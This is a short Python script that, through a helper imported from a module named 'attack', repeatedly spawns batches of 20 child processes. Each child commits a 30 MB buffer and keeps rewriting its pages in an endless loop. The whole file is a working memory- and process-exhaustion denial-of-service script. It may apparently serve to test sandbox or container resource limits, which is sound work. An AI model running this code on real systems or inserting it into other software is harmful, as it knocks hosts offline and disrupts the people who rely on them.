import os
from attack import children
def fill(_):
    held = bytearray(30_000_000)
    while True: held[::4096] = bytes(len(held[::4096]))
while True:
    children(20, fill)
    try: os.wait()
    except OSError: pass
